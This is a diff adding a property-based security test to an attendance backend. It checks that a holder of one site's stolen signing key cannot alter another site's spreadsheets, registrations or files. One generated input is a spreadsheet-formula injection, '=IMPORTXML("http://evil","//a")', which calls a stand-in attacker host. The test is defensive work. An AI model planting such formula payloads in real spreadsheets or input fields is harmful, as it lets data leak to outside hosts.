@@ -10,6 +10,8 @@ from datetime import UTC, date, datetime, time, timedelta
 from itertools import count
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from attendance_backend.app import cli, service
 from attendance_backend.control import dead_letters, registered_sites
@@ -20,11 +22,13 @@ from attendance_contracts import (
     AlarmKind,
     CreateReviewSheet,
     MachineHealth,
+    Message,
     RaiseFinalAlarm,
     ReviewPeriod,
     Signer,
     SiteHealth,
     SiteKey,
+    StoreAttendRecords,
     Topic,
     encode,
     topic_path,
@@ -39,6 +43,7 @@ from tests.integration.backend_office import (
     punch,
     store_message,
 )
+from tests.property.profiles import limits
 
 LETTERS = f"projects/{PROJECT}/topics/dead_letters"
 SECRET = "the secret behind the keys of all sites"
@@ -503,3 +508,105 @@ def test_a_poisonous_message_is_stored_after_redrive(office, monkeypatch, capsys
     assert reply.confirmed == (message.records[0].identity,)
     assert run("discard", second)[1].out.splitlines()[-1] == "1 dead letter"
     assert run("list")[1].out.splitlines() == ["0 dead letters"]
+
+
+# -- a thief who may sign anything with the key of one site
+
+DAYS = st.dates(date(2026, 10, 1), date(2027, 2, 1))
+NAMES = st.sampled_from(("November 2026", "november 2026", "October 2026", "Sites", "'2026'"))
+
+
+@st.composite
+def thefts(draw, sheet_ids):
+    """Messages of berlin that its key signs; and of hamburg, which it signs as well as it can."""
+    first = draw(DAYS)
+    period = ReviewPeriod(draw(NAMES), first, first + timedelta(days=draw(st.integers(0, 1500))))
+    location = draw(st.sampled_from(("berlin", "berlin", "hamburg", "Hamburg")))
+    sheet_id = draw(st.sampled_from(sheet_ids))
+    message: Message
+    match draw(st.sampled_from(("store", "health", "create", "alarm", "ask"))):
+        case "store":
+            users = draw(st.lists(st.sampled_from(("ann", "bob", "zoe", "user001")), min_size=1, max_size=3))
+            punches = [
+                punch(
+                    user,
+                    f"{draw(DAYS)}T04:01:{number:02}",
+                    serial_number=draw(st.sampled_from(("SN1", "SN2"))),
+                )
+                for number, user in enumerate(users)
+            ]
+            message = StoreAttendRecords(
+                location=location,
+                request_id="r",
+                sheet_id=sheet_id,
+                period=period,
+                time_zone="Europe/Berlin",
+                day_boundary=time(4),
+                records=tuple(punches),
+                routed=True,
+            )
+        case "health":
+            message = health(
+                sheet_id,
+                location=location,
+                period=period,
+                at=datetime.combine(draw(DAYS), time(draw(st.integers(0, 23)))),
+                complete_through=draw(st.none() | DAYS),
+                time_zone=draw(st.sampled_from(("Europe/Berlin", "Asia/Tokyo", "nowhere"))),
+                day_boundary=time(draw(st.integers(0, 23))),
+                problem=draw(st.sampled_from(("", '=IMPORTXML("http://evil","//a")'))),
+            )
+        case "create":
+            message = CreateReviewSheet(location=location, request_id="r", period=period)
+        case "alarm":
+            kind = draw(st.sampled_from(AlarmKind))
+            message = RaiseFinalAlarm(
+                location=location, request_id="r", kind=kind, after=draw(st.none() | DAYS), on=draw(DAYS)
+            )
+        case _:
+            message = replace(period_request(after=draw(st.none() | DAYS), on=draw(DAYS)), location=location)
+    return message
+
+
+def of_others(office, sheet_id):
+    """All that a thief of berlin's key must leave alone: but for berlin's rows, its people's days, and what is told."""
+    held = office.spreadsheets()
+    mine = ("Raw Data - berlin", "Punch Index", "Days", "Exceptions", "Sites", "Problems", "Alarms")
+    kept = {place: rows for place, rows in held.items() if place[1] not in mine}
+    for title in ("Sites", "Punch Index"):
+        kept[sheet_id, title] = [row for row in held[sheet_id, title] if "hamburg" in row]
+    kept[sheet_id, "Days"] = len(held[sheet_id, "Days"])
+    registered = {site: row for site, row in office.registered().items() if site != "berlin"}
+    return {**kept, "registered": registered, "files": sorted(office.sheets.store.files)}
+
+
+def test_a_thief_changes_nothing_of_another_site(office):
+    office.sheets.write(office.control_id, "'2026'!A2", [["October", "2026-10-05", "2026-10-30", 4]])
+    office.sheets.write(office.control_id, "'2026'!A3", [["November", "2026-11-02", "2026-11-27", 4]])
+    sheet_id = office.begin()
+    office.create(period=ReviewPeriod("October 2026", date(2026, 10, 5), date(2026, 11, 1)))
+    hamburg = store_message(
+        sheet_id, punch("bob", "2026-11-03T09:00:00", serial_number="SN2"), location="hamburg"
+    )
+    assert office.post(hamburg).status_code == 200
+    assert office.post(health(sheet_id, location="hamburg")).status_code == 200
+    victims = [
+        sheet_id,
+        office.control_id,
+        office.sheets.new_spreadsheet("Salaries", folder_id=office.folder_id),
+    ]
+    begun, before = office.remember(), of_others(office, sheet_id)
+
+    @limits(dev=4, ci=8)
+    @given(st.lists(thefts(victims), min_size=1, max_size=5))
+    def steal(messages):
+        office.go_back(begun)
+        mails = len(office.mail.messages)
+        for message in messages:
+            office.post_raw(message.topic, *office.signed(message, office.keys["berlin"]))
+        assert of_others(office, sheet_id) == before
+        assert len(office.mail.messages) - mails <= 2
+        reply = office.ask(hamburg, Topic.LAST_STORED_TIMESTAMP)
+        assert reply.confirmed == (hamburg.records[0].identity,)
+
+    steal()
